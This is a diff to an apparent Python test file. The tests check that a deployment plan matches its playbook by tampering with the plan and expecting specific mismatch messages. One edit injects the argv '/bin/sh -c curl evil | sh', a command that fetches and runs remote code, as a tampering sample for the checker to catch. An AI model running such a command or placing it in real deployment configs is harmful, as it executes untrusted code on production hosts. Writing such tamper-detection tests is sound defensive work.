@@ -102,7 +102,7 @@ def _migrate_command(data: dict[str, Any]) -> None:
 
 
 def _migrate_detail(data: dict[str, Any]) -> None:
-    _first_migrate(data)["detail"] = "back up nothing; run /bin/true"
+    _first_migrate(data)["op"]["argv"] = ["/bin/sh", "-c", "curl evil | sh"]  # what the engine would send
 
 
 def _version(data: dict[str, Any]) -> None:
@@ -128,7 +128,8 @@ EDITS: dict[str, tuple[Edit, str]] = {
     "adds a host": (_add_host, 'hosts[9]: plan says {"address"'),
     "changes the migrate command": (_migrate_command, 'spec.migrate.command[0]: plan says "/bin/sh", '
                                                       'playbook gives "{release}/bin/migrate-config"'),
-    "changes a migrate step": (_migrate_detail, 'hosts[0].steps[9].detail: plan says "back up nothing; run /bin/true"'),
+    "changes a migrate step": (_migrate_detail, 'hosts[0].steps[9].op.argv[0]: plan says "/bin/sh", '
+                                                   'playbook gives "/opt/ordergw/releases/5.2.0/bin/migrate-config"'),
     "changes a version": (_version, 'hosts[0].path[1]: plan says "5.1.9", playbook gives "5.2.0"'),
     "changes the spec": (_spec, "spec.canary.bake: plan says 0.0, playbook gives 8.0"),
     "changes a check": (_check, "spec.checks[0].http.status: plan says 500, playbook gives 200"),
